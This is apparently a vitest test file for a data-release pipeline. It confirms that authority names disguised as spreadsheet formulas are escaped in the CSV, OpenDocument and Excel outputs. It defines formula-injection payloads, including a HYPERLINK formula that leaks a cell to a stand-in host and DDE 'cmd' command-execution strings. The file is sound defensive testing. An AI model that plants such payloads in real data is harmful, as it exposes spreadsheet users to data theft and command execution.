/**
 * No cell from the data starts a formula in anything a spreadsheet opens: authorities named as
 * formulas are built into the CSVs (prefixed with an apostrophe), the OpenDocument workbook
 * (typed text cells) and the Excel workbook (text cells marked quotePrefix), and each is opened
 * by LibreOffice with formula evaluation on, which must find no formula anywhere.
 */
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import JSZip from 'jszip';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildRelease } from '../../../src/pipeline/build.js';
import { editedData, releaseVariant, tempDir } from '../../support.js';

/** Names for real authorities, each of which a spreadsheet would run if it arrived as written. */
const HOSTILE: Record<string, string> = {
  Barnet: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Barnet")',
  Camden: "=cmd|' /C calc'!A0",
  Bexley: '@SUM(1+1)*cmd|" /C calc"!A0',
  Brent: '+1+1',
  Bromley: '-1+1',
  Croydon: '\t=1+1',
  Ealing: ' =1+1',
  Enfield: '＝1+1',
};

/** The names as the loader keeps them: without spaces around them. */
const NAMES = Object.values(HOSTILE).map((n) => n.trim());

let out: string;

beforeAll(async () => {
  const register = editedData('la-lookup/england_153_la_lookup.csv', (text) => {
    let edited = text;
    for (const [name, hostile] of Object.entries(HOSTILE)) edited = edited.replace(`,${name},${name},`, `,${name},"${hostile.replace(/"/g, '""')}",`);
    return edited;
  });
  const config = releaseVariant((c) => {
    c.register.authorities.file = register;
    // The 2023-24 visits are matched by name; leave them out so renamed authorities still load.
    c.sources = c.sources.slice(0, 2);
  });
  out = join(tempDir(), 'release');
  await buildRelease({ configFile: config, outDir: out, formats: ['html', 'ods', 'xlsx', 'csv'], gates: 'document' });
}, 120_000);

/** Opens a file in LibreOffice Calc (CSV import with "evaluate formulas" on) and saves it as .ods: its content.xml. */
async function throughLibreOffice(file: string): Promise<string> {
  const dir = tempDir('statpress-lo-');
  const csv = file.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'] : [];
  execFileSync('soffice', ['--headless', ...csv, '--convert-to', 'ods', '--outdir', dir, file], { stdio: 'ignore', timeout: 90_000 });
  const converted = readdirSync(dir).find((f) => f.endsWith('.ods'))!;
  return (await JSZip.loadAsync(readFileSync(join(dir, converted)))).file('content.xml')!.async('string');
}

describe('CSV files', () => {
  it('write each formula-like name with an apostrophe in front, and nothing else changed', () => {
    const rows = parseCsv(readFileSync(join(out, 'data/latest-judgements.csv')), { columns: true }) as Array<Record<string, string>>;
    for (const hostile of NAMES) expect(rows.map((r) => r.name)).toContain(`'${hostile}`);
    // Names that start no formula are written as they are.
    expect(rows.map((r) => r.name)).toContain('Barking and Dagenham');
    const map = readFileSync(join(out, 'charts/figure-3.csv'), 'utf8');
    expect(map).toContain(`"'${HOSTILE.Barnet!.replace(/"/g, '""')}"`);
  });

  it('open in LibreOffice with formula evaluation on without a single formula', async () => {
    const plain = join(tempDir(), 'plain.csv');
    // The same file without the apostrophes does run: the check can fail.
    writeFileSync(plain, readFileSync(join(out, 'data/latest-judgements.csv'), 'utf8').replace(/(^|,)("?)'/gm, '$1$2'));
    expect(await throughLibreOffice(plain)).toContain('table:formula=');
    for (const file of ['data/latest-judgements.csv', 'data/inspection-history.csv', 'charts/figure-3.csv']) {
      const content = await throughLibreOffice(join(out, file));
      expect(content, file).not.toContain('table:formula=');
      expect(content, file).toContain('cmd|');
    }
  }, 240_000);
});

describe('the OpenDocument workbook', () => {
  it('holds each name as a text cell, which LibreOffice reads as text', async () => {
    const content = await (await JSZip.loadAsync(readFileSync(join(out, 'underlying-data.ods')))).file('content.xml')!.async('string');
    expect(content).not.toContain('table:formula=');
    const escape = (t: string) => t.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
    for (const hostile of NAMES) expect(content).toContain(`<table:table-cell office:value-type="string" calcext:value-type="string" table:style-name="wrap"><text:p>${escape(hostile)}</text:p>`);
    expect(await throughLibreOffice(join(out, 'underlying-data.ods'))).not.toContain('table:formula=');
  }, 120_000);
});

describe('the Excel workbook', () => {
  it('holds each name as a shared-string cell marked quotePrefix, and no formula', async () => {
    const zip = await JSZip.loadAsync(readFileSync(join(out, 'underlying-data.xlsx')));
    const strings = [...(await zip.file('xl/sharedStrings.xml')!.async('string')).matchAll(/<si><t xml:space="preserve">([\s\S]*?)<\/t><\/si>/g)].map((m) =>
      m[1]!.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&'),
    );
    const styles = await zip.file('xl/styles.xml')!.async('string');
    const formats = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    let seen = 0;
    for (const name of sheets) {
      const sheet = await zip.file(name)!.async('string');
      expect(sheet, name).not.toMatch(/<f[ >]/);
      for (const [, style, index] of sheet.matchAll(/<c r="[A-Z]+\d+" s="(\d+)" t="s"><v>(\d+)<\/v><\/c>/g)) {
        const text = strings[Number(index)]!;
        const quoted = formats[Number(style)]!.includes('quotePrefix="1"');
        if (NAMES.includes(text)) {
          expect(quoted, `${name}: ${text}`).toBe(true);
          seen++;
        } else if (/^[A-Za-z0-9[]/.test(text)) expect(quoted, `${name}: ${text}`).toBe(false);
      }
    }
    expect(seen).toBeGreaterThanOrEqual(NAMES.length * 2);
    expect(await throughLibreOffice(join(out, 'underlying-data.xlsx'))).not.toContain('table:formula=');
  }, 120_000);
});
